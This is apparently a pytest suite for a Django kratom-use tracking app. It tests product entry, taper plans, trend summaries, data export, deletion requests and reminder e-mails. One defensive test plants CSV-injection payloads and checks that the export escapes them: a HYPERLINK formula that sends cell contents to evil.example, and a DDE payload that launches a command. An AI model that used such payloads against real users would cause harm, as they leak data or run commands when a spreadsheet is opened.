"""Products, plan, trends, my data, reminders and deletion requests."""

from __future__ import annotations

import csv
import io
import uuid
import zipfile
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from typing import Any

import pytest
from django.core import mail
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader

from kratomwatch.clinic.models import (
    CheckIn,
    DeletionRequest,
    DoseEntry,
    Plan,
    PlanKind,
    Product,
    QuestionnaireResponse,
    ReminderLog,
    User,
)
from kratomwatch.clinic.reminders import send_due_reminders

from .conftest import Triangle


def product_data(**overrides: str) -> dict[str, str]:
    data = {
        "name": "Green Maeng Da caps",
        "vendor": "Shop",
        "form": "capsule",
        "strain_label": "Green Maeng Da",
        "batch": "B12",
        "potency_source": "label",
        "mitragynine": "1.5",
        "mitragynine_unit": "%",
        "hydroxymitragynine": "",
        "hydroxymitragynine_unit": "mg/g",
        "unit_material_mg": "500",
        "mitragynine_mg_per_unit": "",
        "hydroxymitragynine_mg_per_unit": "",
        "leaf_g_per_ml": "",
        "idempotency_key": uuid.uuid4().hex,
    }
    data.update(overrides)
    return data


def test_adding_a_product_converts_percent_and_is_idempotent(client: Client, tri: Triangle) -> None:
    client.force_login(tri.patient.user)
    data = product_data()
    assert client.post(reverse("product_add"), data).status_code == 302
    assert client.post(reverse("product_add"), data).status_code == 302
    product = Product.objects.get(patient=tri.patient, name="Green Maeng Da caps")
    assert product.mitragynine_mg_per_g == Decimal("15")  # 1.5 % w/w = 15 mg/g
    assert product.unit_material_mg == Decimal("500") and product.form == "capsule"
    assert "Green Maeng Da caps" in client.get(reverse("my_products")).content.decode()


@pytest.mark.parametrize(
    "overrides, field, message",
    [
        ({"form": "leaf_powder"}, "unit_material_mg", "not taken in capsules"),
        ({"mitragynine": "150", "mitragynine_unit": "%"}, "mitragynine", "from 0 to 100 %"),
        ({"mitragynine": "abc"}, "mitragynine", "Enter a number"),
        ({"unit_material_mg": "-5"}, "unit_material_mg", "above 0"),
        ({"form": ""}, "form", "required"),
    ],
)
def test_a_bad_product_is_refused_and_kept(
    client: Client, tri: Triangle, overrides: dict[str, str], field: str, message: str
) -> None:
    client.force_login(tri.patient.user)
    response = client.post(reverse("product_add"), product_data(**overrides))
    assert response.status_code == 400
    assert any(message in e for e in response.context["form"].errors[field])
    assert 'value="Green Maeng Da caps"' in response.content.decode()
    assert not Product.objects.filter(name="Green Maeng Da caps").exists()


def test_the_plan_is_shown_in_plain_words(client: Client, tri: Triangle) -> None:
    client.force_login(tri.patient.user)
    assert "not written a plan yet" in client.get(reverse("my_plan")).content.decode()
    Plan.objects.create(
        patient=tri.patient,
        version=1,
        kind=PlanKind.TAPER,
        max_single_dose_g=Decimal("3"),
        max_daily_dose_g=Decimal("9"),
        max_doses_per_day=3,
        min_hours_between=Decimal("4"),
        review_on=date(2026, 12, 15),
        author=tri.clinician,
        reason="taper",
        details={"steps": [{"start": "2026-12-01", "daily_g": "8"}]},
    )
    html = client.get(reverse("my_plan")).content.decode()
    for text in (
        "No more than <strong>3 g</strong> in one dose",
        "No more than <strong>9 g</strong> a day",
        "At most <strong>3</strong> doses",
        "<strong>4 hours</strong> between",
        "15 Dec 2026",
        "1 Dec 2026",
    ):
        assert text in html, text


def test_trends_admit_when_there_is_not_enough_data(client: Client, tri: Triangle) -> None:
    client.force_login(tri.patient.user)
    html = client.get(reverse("trends")).content.decode()
    assert "Not enough check-ins yet" in html
    assert "<svg" in html and "<title>Pain, interference and daily dose over 4 weeks" in html


def _daily(tri: Triangle, day: datetime, pain: int) -> None:
    QuestionnaireResponse.objects.create(
        patient=tri.patient,
        instrument_id="kw-daily-pain",
        instrument_version="1.0",
        answers=[pain, pain, 3, 3, 5],
        total=pain,
        taken_at=day,
        scores={"subscales": {"pain": pain, "interference": 3, "sleep": 5}},
        idempotency_key=f"d{day.date()}",
    )


def test_trends_summarize_without_claiming_cause(client: Client, tri: Triangle) -> None:
    now = timezone.now()
    for i in range(14):
        day = now - timedelta(days=13 - i)
        _daily(tri, day, 7 if i < 7 else 4)
        DoseEntry.objects.create(
            patient=tri.patient,
            product=tri.product,
            taken_at=day,
            amount=Decimal(2),
            unit="g",
            leaf_equivalent_g=Decimal(2),
            mitragynine_mg=Decimal(30),
            idempotency_key=f"t{i}",
        )
    client.force_login(tri.patient.user)
    html = client.get(reverse("trends") + "?weeks=2").content.decode()
    assert "pain was lower in the second half" in html
    assert "2.0 g leaf-equivalent a day" in html
    assert "cannot tell whether kratom caused" in html
    assert 'aria-current="page">2 weeks' in html


def test_my_data_downloads(client: Client, tri: Triangle) -> None:
    DoseEntry.objects.create(
        patient=tri.patient,
        product=tri.product,
        taken_at=timezone.now(),
        amount=Decimal("2.5"),
        unit="g",
        leaf_equivalent_g=Decimal("2.5"),
        idempotency_key="x",
    )
    client.force_login(tri.patient.user)
    archive = zipfile.ZipFile(io.BytesIO(client.get(reverse("my_data_csv")).content))
    assert {
        "doses.csv",
        "daily_ratings.csv",
        "questionnaire_scores.csv",
        "symptoms.csv",
        "products.csv",
        "medications.csv",
        "checkins.csv",
    } <= set(archive.namelist())
    doses = list(csv.DictReader(io.StringIO(archive.read("doses.csv").decode())))
    assert len(doses) == 1
    assert doses[0]["product_name"] == "Red Bali powder" and doses[0]["amount"] == "2.5"
    assert doses[0]["unit"] == "g"
    assert doses[0]["taken_at"][19] in "+-Z"  # an explicit UTC offset
    patients = list(csv.DictReader(io.StringIO(archive.read("patients.csv").decode())))
    assert [p["display_name"] for p in patients] == ["Paul"]  # nobody else's data
    response = client.get(reverse("my_data_pdf"))
    assert response["Content-Type"] == "application/pdf"
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    assert "Paul" in text and "Red Bali powder" in text


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_no_cell_of_my_export_is_a_spreadsheet_formula(client: Client, tri: Triangle) -> None:
    """OWASP CSV injection: text a spreadsheet would run gets a leading apostrophe, in every
    file of the patient's own export; plain numbers stay numbers."""
    tri.checkin.note = '=HYPERLINK("http://evil.example/?"&A1,"Click for results")'
    tri.checkin.save()
    User.objects.filter(pk=tri.patient.user.pk).update(first_name="+SUM(A1:A9)")
    Product.objects.filter(pk=tri.product.pk).update(vendor="@cmd|' /C calc'!A0")
    tri.med.dose_text = "\t=1+1"
    tri.med.save()
    client.force_login(tri.patient.user)
    archive = zipfile.ZipFile(io.BytesIO(client.get(reverse("my_data_csv")).content))
    cells = [
        (name, cell)
        for name in archive.namelist()
        for row in csv.reader(io.StringIO(archive.read(name).decode(), newline=""))
        for cell in row
    ]
    live = [
        (name, cell)
        for name, cell in cells
        if cell.startswith(FORMULA_START) and not cell.lstrip("+-").replace(".", "").isdigit()
    ]
    assert live == []
    assert ("checkins.csv", "'" + tri.checkin.note) in cells
    assert ("patients.csv", "'+SUM(A1:A9)") in cells
    assert ("medications.csv", "'\t=1+1") in cells


def test_a_deletion_request_is_recorded_once(client: Client, tri: Triangle) -> None:
    client.force_login(tri.patient.user)
    client.post(reverse("request_deletion"), {"reason": "moving"})
    client.post(reverse("request_deletion"), {"reason": "moving"})
    request = DeletionRequest.objects.get(patient=tri.patient)
    assert request.status == "requested" and request.reason == "moving"
    assert "Your clinic will contact you" in client.get(reverse("my_data")).content.decode()


class TestReminders:
    def setup(self, tri: Triangle, at: time = time(8, 0)) -> None:
        tri.patient.reminder_time = at
        tri.patient.save()
        tri.patient.user.email = "paul@example.org"
        tri.patient.user.save()
        CheckIn.objects.filter(patient=tri.patient).delete()

    def at(self, hour: int, minute: int = 0) -> datetime:
        return timezone.make_aware(datetime.combine(timezone.localdate(), time(hour, minute)))

    def test_it_is_sent_once_after_the_time(self, tri: Triangle) -> None:
        self.setup(tri)
        assert send_due_reminders(self.at(7, 59)) == 0
        assert send_due_reminders(self.at(8, 5)) == 1
        assert send_due_reminders(self.at(8, 10)) == 0
        assert len(mail.outbox) == 1
        message = mail.outbox[0]
        assert message.to == ["paul@example.org"] and "/me/checkin/" in message.body
        assert "pain" not in message.body.lower()  # no health data in e-mails

    def test_not_when_already_checked_in(self, tri: Triangle) -> None:
        self.setup(tri)
        CheckIn.objects.create(
            patient=tri.patient,
            day=timezone.localdate(),
            submitted_at=timezone.now(),
            idempotency_key="today",
        )
        assert send_due_reminders(self.at(9)) == 0

    def test_a_failed_send_is_retried(self, tri: Triangle, monkeypatch: pytest.MonkeyPatch) -> None:
        self.setup(tri)

        def broken(*args: Any, **kwargs: Any) -> None:
            raise OSError("smtp down")

        monkeypatch.setattr("kratomwatch.clinic.reminders.send_mail", broken)
        assert send_due_reminders(self.at(9)) == 0
        assert not ReminderLog.objects.exists()
        monkeypatch.undo()
        assert send_due_reminders(self.at(9, 5)) == 1

    def test_the_patient_sets_it(self, client: Client, tri: Triangle) -> None:
        client.force_login(tri.patient.user)
        response = client.post(
            reverse("my_data"), {"reminder_time": "19:30", "by_email": "on", "email": ""}
        )
        assert response.status_code == 400  # an address is needed
        response = client.post(reverse("my_data"), {"reminder_time": "19:30", "email": "p@x.org"})
        assert response.status_code == 400  # a channel is needed
        assert "Choose e-mail, notifications or both." in response.content.decode()
        client.post(
            reverse("my_data"),
            {"reminder_time": "19:30", "by_email": "on", "email": "p@example.org", "by_push": "on"},
        )
        tri.patient.refresh_from_db()
        assert tri.patient.reminder_time == time(19, 30)
        assert tri.patient.user.email == "p@example.org"
        assert tri.patient.remind_by_email and tri.patient.remind_by_push

    def test_the_command_runs(self, tri: Triangle) -> None:
        from django.core.management import call_command

        out = io.StringIO()
        call_command("send_reminders", stdout=out)
        assert "reminder(s)" in out.getvalue()
